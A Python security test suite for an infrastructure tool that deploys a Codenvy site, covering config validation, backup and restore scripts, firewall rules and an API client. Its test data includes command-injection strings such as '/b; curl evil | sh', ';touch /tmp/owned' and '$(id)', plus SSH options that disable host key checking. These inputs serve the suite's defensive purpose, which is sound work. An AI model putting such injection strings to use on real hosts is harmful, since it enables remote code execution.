"""Issue 12: bad input refused by name, values reach hosts as data, archives and transfers stay private."""

from __future__ import annotations

import http.server
import json
import os
import stat
import subprocess
import tarfile
import threading
from pathlib import Path
from typing import ClassVar

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from components.backups import BackupSettings, render_backup, render_restore
from components.config import ConfigError
from components.config_loader import load_site_config
from components.deploy_gates import GateError, PrimarySite
from components.disaster_recovery import DisasterRecoverySettings, render_transfer
from components.host_access import STATE_DIR
from components.host_firewall import FirewallSettings, render_nftables
from components.host_tools import Toolbox, cron_entry, render_schedule
from components.resource_api import ApiError, ResourceApi
from components.script_templates import render_script

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH8T3Fq1n7S8q0mZ0n0v6iJH1w6b3Zbq2yq8wq8wq8wq"
STAMP_OTHER = "20300101T000000Z"


def raw(**values) -> dict[str, str]:
    """Stack values as Pulumi hands them over: objects and lists as JSON, scalars as text."""
    return {
        f"codenvy-infra:{key}": value if isinstance(value, str) else json.dumps(value) for key, value in values.items()
    }


def refused(key: str, **values) -> str:
    with pytest.raises(ConfigError) as caught:
        load_site_config(raw(**values))
    message = str(caught.value)
    assert f"codenvy-infra:{key}" in message, message
    return message


def overlay(master: dict | None = None, nodes: list[dict] | None = None, **values) -> dict:
    return {
        "network": {"mode": "overlay"},
        "master": {"name": "boss", "address": "10.9.0.1", **(master or {})},
        "nodes": nodes if nodes is not None else [{"name": "ws1", "address": "10.9.0.2", "ssh": {}}],
        **values,
    }


# --- fake host tools: the scripts run for real, with docker, ssh and rsync stubbed on PATH -------------------


def fake_bin(tmp_path: Path) -> dict[str, str]:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    log = tmp_path / "calls.log"
    tools = {
        # `docker cp CONTAINER:/instance/codenvy.ver -` gives a tar with the version; other copies a small tar.
        "docker": f"""#!/usr/bin/env bash
echo "docker $*" >> {log}
scratch=$(mktemp -d)
case "$1 $2" in
  "cp "*codenvy.ver) printf '5.22.0\\n' > "$scratch/codenvy.ver"; tar -C "$scratch" -cf - codenvy.ver ;;
  "cp "*) printf 'data\\n' > "$scratch/file"; tar -C "$scratch" -cf - file ;;
  "exec "*) printf 'dump\\n' ;;
esac
rm -rf "$scratch"
""",
        # The remote command runs here; the known_hosts file it was given is logged.
        "ssh": f"""#!/usr/bin/env bash
echo "ssh $*" >> {log}
for arg in "$@"; do
  case "$arg" in UserKnownHostsFile=*) cat "${{arg#UserKnownHostsFile=}}" >> {log} ;; esac
done
bash -c "${{@: -1}}"
""",
        # A remote source (ADDRESS:path) is this machine's path; what rsync prints of its transfer, a line.
        "rsync": f"""#!/usr/bin/env bash
echo "rsync $*" >> {log}
source="${{@: -2:1}}"
cp "${{source#*:}}" "${{@: -1}}"
echo "Total bytes received: 7"
""",
    }
    for name, text in tools.items():
        (bin_dir / name).write_text(text)
        (bin_dir / name).chmod(0o755)
    log.touch()
    return {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}"}


def run(script: str, env: dict[str, str], cwd: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        ["bash", "-c", script, "script", *args],
        env=env,
        cwd=cwd,
        text=True,
        capture_output=True,
        check=False,
        preexec_fn=lambda: os.umask(0o022),
    )


def backup_site(directory: Path, keep: int = 1):
    return load_site_config(raw(backup={"directory": str(directory), "keep": keep, "schedule": None}))


def old_archive(directory: Path, name: str) -> Path:
    path = directory / name
    path.write_text("old")
    os.utime(path, (1_000_000, 1_000_000))
    return path


# --- 1. the firewall lets the program back in ------------------------------------------------------------


def admin_ports(ruleset: str) -> set[int]:
    (line,) = [line for line in ruleset.splitlines() if "@ssh_sources accept" in line]
    inside = line.split("{", 1)[1].split("}", 1)[0]
    return {int(port) for port in inside.split(",")}


def test_firewall_opens_the_hosts_own_ssh_port():
    site = load_site_config(raw(**overlay(nodes=[{"name": "ws1", "address": "10.9.0.2", "ssh": {"port": 2222}}])))
    node = site.nodes[0]
    assert 2222 in admin_ports(render_nftables(FirewallSettings.of(site), node, is_master=False, runs_workspaces=True))


def test_firewall_opens_the_docker_tls_port_of_a_tcp_host():
    node = {"name": "ws1", "address": "10.9.0.2", "ssh": {}, "dockerHost": "tcp://10.9.0.2:2376"}
    site = load_site_config(raw(**overlay(nodes=[{**node, "dockerCertPath": "/certs"}])))
    assert 2376 in admin_ports(
        render_nftables(FirewallSettings.of(site), site.nodes[0], is_master=False, runs_workspaces=True)
    )


# --- 2. sites whose names share a prefix ------------------------------------------------------------------


def test_retention_keeps_the_archives_of_a_site_whose_name_extends_this_one(tmp_path):
    env = fake_bin(tmp_path)
    backups = tmp_path / "backups"
    backups.mkdir()
    other = old_archive(backups, f"codenvy-codenvy-dr-{STAMP_OTHER}-5.22.0.tar")
    result = run(render_backup(BackupSettings.of(backup_site(backups)), "scheduled"), env, tmp_path)
    assert result.returncode == 0, result.stderr
    assert other.exists()


def standby(tmp_path: Path, **dr) -> tuple:
    site = load_site_config(
        raw(
            siteName="codenvy-dr",
            role="standby",
            backup={"directory": str(tmp_path / "standby"), "schedule": None},
            dr={"primaryStack": "o/p/primary", "standby": "cold", **dr},
        )
    )
    outputs = {
        "siteName": "codenvy",
        "version": "5.22.0",
        "managerAddress": "10.9.0.1",
        "registry": "10.9.0.1:5000",
        "backupDirectory": str(tmp_path / "primary"),
        "nodes": site.node_set,
    }
    return site, PrimarySite.from_outputs("o/p/primary", outputs)


# --- 3. paths ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("directory", ["/var/backups/x;touch /tmp/owned", "/var/backups/x\n* * * * * id", "/a b"])
@pytest.mark.parametrize("key", ["directory", "toolsDirectory"])
def test_a_backup_path_with_shell_characters_is_refused(key, directory):
    message = refused(f"backup.{key}", backup={key: directory})
    assert "letters, digits" in message


def test_a_relative_backup_path_is_refused_outside_dev():
    refused("backup.directory", environment="prod", backup={"directory": "backups"})


def test_the_standby_refuses_a_primary_backup_directory_with_shell_characters(tmp_path):
    site, _ = standby(tmp_path)
    outputs = {
        "siteName": "codenvy",
        "version": "5.22.0",
        "managerAddress": "10.9.0.1",
        "registry": "10.9.0.1:5000",
        "backupDirectory": "/b; curl evil | sh",
        "nodes": site.node_set,
    }
    with pytest.raises(GateError, match=r"codenvy-infra:dr\.primaryStack: the output backupDirectory"):
        PrimarySite.from_outputs("o/p/primary", outputs)


def test_retention_never_splits_a_file_name(tmp_path):
    env = fake_bin(tmp_path)
    backups = tmp_path / "backups"
    backups.mkdir()
    victim = tmp_path / "victim"
    victim.write_text("not an archive")
    old_archive(backups, "codenvy-codenvy-20200101T000000Z-1.0 victim .tar")
    result = run(render_backup(BackupSettings.of(backup_site(backups)), "scheduled"), env, tmp_path)
    assert result.returncode == 0, result.stderr
    assert victim.exists()


# --- 4. host keys ---------------------------------------------------------------------------------------


def test_an_ssh_host_without_a_host_key_is_refused_outside_dev():
    refused("master.ssh.hostKey", environment="prod", master={"address": "10.9.0.1", "ssh": {}})


def test_a_standby_without_the_primarys_host_key_is_refused_outside_dev():
    values = {"environment": "prod", "role": "standby", "dr": {"primaryStack": "o/p/s"}}
    refused("dr.primarySsh.hostKey", **values)


# --- 5. modes of what holds the database ---------------------------------------------------------------


def scheduled_backup(tmp_path: Path) -> tuple[Path, Path]:
    """A scheduled backup run into a fresh directory: the archive it wrote and that directory."""
    env = fake_bin(tmp_path)
    backups = tmp_path / "backups"
    result = run(render_backup(BackupSettings.of(backup_site(backups, keep=3)), "scheduled"), env, tmp_path)
    assert result.returncode == 0, result.stderr
    return Path(result.stdout.strip().splitlines()[-1]), backups


def test_backup_archives_are_readable_by_root_only(tmp_path):
    archive, _ = scheduled_backup(tmp_path)
    assert stat.S_IMODE(archive.stat().st_mode) == 0o600


def test_the_backup_directory_is_open_to_root_only(tmp_path):
    _, backups = scheduled_backup(tmp_path)
    assert stat.S_IMODE(backups.stat().st_mode) == 0o700


# --- 7. host addresses ----------------------------------------------------------------------------------


@pytest.mark.parametrize("address", ["ws1.example.com", "fd00::2"])
def test_a_host_address_that_is_not_ipv4_is_refused(address):
    message = refused("nodes[0].address", **overlay(nodes=[{"name": "ws1", "address": address, "ssh": {}}]))
    assert "IPv4" in message


# --- 8. the Resource API client ------------------------------------------------------------------------


class Recorder(http.server.BaseHTTPRequestHandler):
    seen: ClassVar[list[tuple[str, str | None]]] = []
    answer: ClassVar[tuple[int, dict[str, str], bytes]] = (200, {}, b"[]")

    def _answer(self):
        type(self).seen.append((self.command, self.headers.get("Authorization")))
        status, headers, body = type(self).answer
        self.send_response(status)
        for key, value in headers.items():
            self.send_header(key, value)
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = _answer  # noqa: N815 - the names BaseHTTPRequestHandler calls

    def log_message(self, *args):
        pass


def serve(handler: type) -> str:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return f"http://127.0.0.1:{server.server_address[1]}"


def test_a_redirect_is_not_followed_with_the_admin_credentials():
    class Elsewhere(Recorder):
        seen: ClassVar[list] = []

    class Redirecting(Recorder):
        seen: ClassVar[list] = []

    Redirecting.answer = (301, {"Location": serve(Elsewhere) + "/steal", "Content-Length": "0"}, b"")
    with pytest.raises(ApiError, match="redirect"):
        ResourceApi(serve(Redirecting), "admin", "pw").apply_limits("alice", [{"type": "workspace", "amount": 3}])
    assert Elsewhere.seen == []


def test_an_answer_that_is_not_json_is_a_clear_error():
    class Html(Recorder):
        seen: ClassVar[list] = []
        answer = (200, {"Content-Length": "15"}, b"<html>hi</html>")

    with pytest.raises(ApiError, match="not JSON"):
        ResourceApi(serve(Html), "admin", "pw").apply_limits("alice", [{"type": "workspace", "amount": 3}])


def test_an_answer_cut_short_is_a_clear_error():
    class CutShort(Recorder):
        seen: ClassVar[list] = []
        answer = (200, {"Content-Length": "1000"}, b"[")

    with pytest.raises(ApiError, match="cannot reach"):
        ResourceApi(serve(CutShort), "admin", "pw").apply_limits("alice", [{"type": "workspace", "amount": 3}])


LIMITS = {"users": [{"userId": "alice", "resources": [{"type": "workspace", "amount": 3}]}]}


def test_an_http_api_url_is_refused_outside_dev():
    values = {"environment": "prod", "adminPassword": "pw", "limits": {**LIMITS, "apiUrl": "http://x/api"}}
    refused("limits.apiUrl", **values)


def test_a_site_without_https_sending_the_admin_password_is_refused_outside_dev():
    refused("https", environment="prod", adminPassword="pw", https="false", limits=LIMITS)


# --- 10. restore trusts only the archive it expects -----------------------------------------------------


def archive_with(tmp_path: Path, members: dict[str, str | Path], sums_for: list[str]) -> Path:
    build = tmp_path / "build"
    build.mkdir()
    for name, content in members.items():
        if isinstance(content, Path):
            (build / name).symlink_to(content)
        else:
            (build / name).write_text(content)
    sums = subprocess.run(["sha256sum", *sums_for], cwd=build, text=True, capture_output=True, check=True).stdout
    (build / "SHA256SUMS").write_text(sums)
    archive = tmp_path / "a.tar"
    with tarfile.open(archive, "w") as tar:
        for name in ("manifest.json", "SHA256SUMS", *[m for m in members if m != "manifest.json"]):
            tar.add(build / name, arcname=name)
    return archive


MANIFEST = '{\n  "version": "5.22.0",\n}\n'
# fs.tar: an empty tar (zero blocks), which the restore lists before it unpacks anything.
DATA = {"manifest.json": MANIFEST, "database.dump": "d", "fs.tar": "\0" * 10240, "instance.tar": "i"}
SUMMED = ["database.dump", "fs.tar", "instance.tar", "manifest.json"]


def restore(
    tmp_path: Path, members: dict[str, str | Path], summed: list[str]
) -> tuple[subprocess.CompletedProcess, str]:
    """The restore tool on an archive of `members` whose SHA256SUMS lists `summed`; its result and the
    docker calls it made."""
    env = fake_bin(tmp_path)
    archive = archive_with(tmp_path, members, summed)
    result = run(render_restore(BackupSettings.of(load_site_config({}))), env, tmp_path, str(archive))
    return result, (tmp_path / "calls.log").read_text()


SYMLINKED_DUMP = {**DATA, "database.dump": Path("/etc/hostname")}


def test_restore_refuses_a_symlinked_dump_that_no_checksum_covers(tmp_path):
    result, _ = restore(tmp_path, SYMLINKED_DUMP, ["manifest.json"])
    assert result.returncode != 0 and "refused" in result.stderr


def test_a_refused_restore_touches_no_container(tmp_path):
    _, calls = restore(tmp_path, SYMLINKED_DUMP, ["manifest.json"])
    assert "docker" not in calls


def test_restore_refuses_an_archive_with_an_extra_member(tmp_path):
    result, _ = restore(tmp_path, {**DATA, "extra": "x"}, SUMMED)
    assert result.returncode != 0 and "other members" in result.stderr


def test_restore_refuses_a_manifest_the_checksums_do_not_cover(tmp_path):
    # The manifest's version decides what a restore accepts, so an edited one must not pass.
    result, _ = restore(tmp_path, DATA, SUMMED[:-1])
    assert result.returncode != 0 and "do not cover exactly" in result.stderr


def test_restore_goes_ahead_with_an_archive_whose_every_member_is_summed(tmp_path):
    result, calls = restore(tmp_path, DATA, SUMMED)
    assert result.returncode == 0, result.stderr
    assert "pg_restore" in calls


# --- 11. config gaps ------------------------------------------------------------------------------------


@pytest.mark.parametrize("ram", [1e308, "Infinity", "NaN"])
def test_an_unbounded_host_ram_is_refused(ram):
    master = json.dumps({"ramGb": ram}) if not isinstance(ram, str) else f'{{"ramGb": {ram}}}'
    with pytest.raises(ConfigError, match=r"codenvy-infra:master\.ramGb"):
        load_site_config({"codenvy-infra:master": master})


@pytest.mark.parametrize(
    ("key", "values"),
    [
        ("registry.port", {"registry": {"port": True}}),
        ("master.ramGb", {"master": {"ramGb": True}}),
        ("firewall.publicCidrs", {"firewall": {"publicCidrs": [True]}}),
        ("backup.keep", {"backup": {"keep": False}}),
    ],
)
def test_true_or_false_is_no_number_or_address(key, values):
    # Pydantic reads true as 1: `port: true` was port 1, and a CIDR of true was 0.0.0.1/32.
    refused(key, **values)


def test_a_user_listed_twice_is_refused():
    user = LIMITS["users"][0]
    refused("limits.users", adminPassword="pw", limits={"users": [user, user]})


@pytest.mark.parametrize(
    ("key", "values"),
    [
        ("siteName", {"siteName": "codenvy\n"}),
        ("hostname", {"hostname": "example.com\n"}),
        ("version", {"version": "5.22.0\n"}),
        (
            "limits.users[0].userId",
            {"adminPassword": "pw", "limits": {"users": [{**LIMITS["users"][0], "userId": "a\n"}]}},
        ),
        ("dr.primaryStack", {"role": "standby", "dr": {"primaryStack": "o/p/s\n"}}),
        ("master.address", {"master": {"address": "127.0.0.1\n"}}),
    ],
)
def test_a_trailing_newline_is_refused(key, values):
    refused(key, **values)


@pytest.mark.parametrize("schedule", ["0 0 31 2 *", "60 24 32 13 8", "*/0 * * * *", "5-1 * * * *"])
def test_a_cron_schedule_that_never_fires_or_is_out_of_range_is_refused(schedule):
    refused("backup.schedule", backup={"schedule": schedule})


def test_a_cron_schedule_with_day_of_week_may_name_any_day():
    assert load_site_config(raw(backup={"schedule": "0 0 31 2 1"})).backup.schedule == "0 0 31 2 1"


@pytest.mark.parametrize(
    ("key", "values"),
    [
        ("registry.port", {"master": {"httpsPort": 443}, "registry": {"port": 443}}),
        ("master.httpPort", {"master": {"httpPort": 22, "ssh": {}}}),
    ],
)
def test_ports_that_collide_on_the_master_are_refused(key, values):
    refused(key, **values)


def test_a_loopback_master_of_remote_overlay_nodes_is_refused():
    refused("master.address", **overlay(master={"address": "127.0.0.1"}))


@pytest.mark.parametrize(
    ("key", "text"), [("adminPassword", "12345678"), ("adminPassword", '"pw"'), ("license", "null!")]
)
def test_secret_scalars_are_taken_as_written(key, text):
    site = load_site_config({f"codenvy-infra:{key}": text})
    value = site.admin_password if key == "adminPassword" else site.license
    assert value.get_secret_value() == text


def test_a_numeric_site_name_is_taken_as_written():
    assert load_site_config({"codenvy-infra:siteName": "123"}).site_name == "123"


@pytest.mark.parametrize("image", ["postgres:15\n", "Postgres:15", "post gres:15", "postgres:-x", "a;b:1"])
def test_an_image_that_is_not_an_image_reference_is_refused(image):
    refused("images.postgres", images={"postgres": image})


def test_a_server_repository_that_is_not_a_repository_is_refused():
    refused("images.server", images={"server": "codenvy/$(id)"})


# --- the property that keeps it so ---------------------------------------------------------------------


# Every key of the stack file, and the nested ones that reach a host.
PATHS = [
    ("siteName",), ("environment",), ("role",), ("version",), ("hostname",), ("https",), ("adminPassword",),
    ("license",), ("network", "mode"), ("master", "address"), ("master", "name"), ("master", "ramGb"),
    ("master", "httpPort"), ("master", "ssh"), ("nodes",), ("registry", "port"), ("images", "postgres"),
    ("images", "server"), ("logs", "maxSize"), ("backup", "directory"), ("backup", "toolsDirectory"),
    ("backup", "schedule"), ("backup", "keep"), ("dr", "primaryStack"), ("dr", "sshKeyFile"),
    ("dr", "transferSchedule"), ("dr", "primarySsh"), ("limits", "users"), ("limits", "apiUrl"),
    ("firewall", "persistFile"), ("firewall", "sshCidrs"), ("proxy", "httpProxy"),
]  # fmt: skip
MARKERS = [
    "codenvy", "/var/backups/x", "x;touch /tmp/owned", "$(id)", "`id`", "a\nb", "a b", "'", '"', "%", "-rf",
    "../..", "/a/../b", "0 2 * * *", "0 0 31 2 *", "10.0.0.1", "fd00::1", "127.0.0.1", "5.22.0\n", "",
]  # fmt: skip
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=12) | st.sampled_from(MARKERS),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)


def stack_values(assignments: list[tuple[tuple[str, ...], object]], base: dict | None = None) -> dict[str, str]:
    document: dict = json.loads(json.dumps(base or {}))
    for path, value in assignments:
        if len(path) == 1:
            document[path[0]] = value
        else:
            section = document.get(path[0])
            document[path[0]] = {**(section if isinstance(section, dict) else {}), path[1]: value}
    return {
        f"codenvy-infra:{key}": value if isinstance(value, str) else json.dumps(value)
        for key, value in document.items()
    }


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@example([(("master", "ramGb"), 1e308)])
@example([(("master", "ramGb"), float("inf"))])
@given(st.lists(st.tuples(st.sampled_from(PATHS), JSON), min_size=1, max_size=4))
def test_any_value_at_any_key_is_a_config_or_an_error_naming_a_key(assignments):
    try:
        load_site_config(stack_values(assignments))
    except ConfigError as error:
        assert "codenvy-infra:" in str(error)


STANDBY = {"role": "standby", "siteName": "codenvy-dr", "dr": {"primaryStack": "o/p/s"}}
TEXT_PATHS = [p for p in PATHS if p[0] in ("siteName", "hostname", "version", "backup", "dr", "firewall", "master")]


def assigned(script: str, names: list[str]) -> list[str]:
    """What bash holds in `names` after the script's parameter block, the only lines that carry values."""
    block = script.split("set -euo pipefail\n", 1)[1].split("\n# params:", 1)[0]
    words = " ".join('"$' + name + '"' for name in names)
    reader = block + '\nprintf "%s\\0" ' + words
    result = subprocess.run(["bash", "-c", reader], capture_output=True, check=True)
    return result.stdout.decode().split("\0")[:-1]


def scripts_of(site) -> dict[str, tuple[str, dict[str, str]]]:
    """Each script the config shapes, with the values it must receive as data."""
    scripts = {
        "backup": (
            render_backup(BackupSettings.of(site), "scheduled"),
            {"BACKUP_DIR": site.backup.directory, "SITE_NAME": site.site_name, "TARGET_VERSION": site.version},
        ),
        "restore": (render_restore(BackupSettings.of(site)), {"SITE_NAME": site.site_name}),
        "firewall": (
            render_script(
                "firewall",
                nftables_conf=site.firewall.persist_file,
                node_name=site.master.name,
                owner="o",
                ruleset=render_nftables(FirewallSettings.of(site), site.master, is_master=True, runs_workspaces=True),
                state_dir=STATE_DIR,
            ),
            {"NFTABLES_CONF": site.firewall.persist_file},
        ),
    }
    if site.backup.schedule:
        entry = cron_entry(
            site.backup.schedule, Toolbox(site.backup.tools_directory, site.site_name).path("backup"), "/l"
        )
        scripts["schedule"] = (render_schedule("m", site.master.name, entry), {"ENTRY": entry})
    if site.dr is not None:
        outputs = {
            "siteName": "codenvy",
            "version": site.version,
            "managerAddress": "10.9.0.1",
            "registry": "10.9.0.1:5000",
        }
        primary = PrimarySite.from_outputs("o/p/s", {**outputs, "nodes": site.node_set})
        scripts["transfer"] = (
            render_transfer(DisasterRecoverySettings.of(site), primary),
            {"KEY_FILE": site.dr.ssh_key_file},
        )
    return scripts


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.tuples(st.sampled_from(TEXT_PATHS), st.sampled_from(MARKERS)), min_size=1, max_size=3),
    st.booleans(),
)
def test_every_accepted_value_reaches_its_script_as_data(assignments, is_standby):
    try:
        site = load_site_config(stack_values(assignments, STANDBY if is_standby else None))
    except ConfigError:
        return
    for name, (script, expected) in scripts_of(site).items():
        subprocess.run(["bash", "-n"], input=script, text=True, check=True)
        assert assigned(script, list(expected)) == list(expected.values()), name


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.sampled_from(TEXT_PATHS), st.sampled_from(MARKERS)), min_size=1, max_size=3))
def test_every_accepted_backup_schedule_is_one_cron_line_of_plain_words(assignments):
    try:
        site = load_site_config(stack_values(assignments))
    except ConfigError:
        return
    if not site.backup.schedule:
        return
    entry = cron_entry(site.backup.schedule, Toolbox(site.backup.tools_directory, site.site_name).path("backup"), "/l")
    # cron hands the command to sh, and treats % as a newline: the line must be these words, nothing else.
    assert "%" not in entry and "\n" not in entry
    assert entry.split(" ") == [
        *site.backup.schedule.split(" "),
        Toolbox(site.backup.tools_directory, site.site_name).path("backup"),
        ">>",
        "/l",
        "2>&1",
    ]


@pytest.mark.parametrize(
    "options",
    [
        ["-o", "StrictHostKeyChecking=no"],
        ["-oStrictHostKeyChecking accept-new"],
        ["-o", "UserKnownHostsFile=/dev/null"],
    ],
)
def test_ssh_options_that_skip_the_docker_providers_host_check_are_refused_outside_dev(options):
    ssh = {"hostKey": KEY, "options": options}
    refused("master.ssh.options", environment="prod", master={"address": "10.9.0.1", "ssh": ssh})


def test_the_sim_stack_may_skip_the_host_check_of_its_fresh_hosts():
    ssh = {"options": ["-o", "StrictHostKeyChecking=no"]}
    assert load_site_config(raw(environment="sim", master={"address": "10.9.0.1", "ssh": ssh})).master.ssh
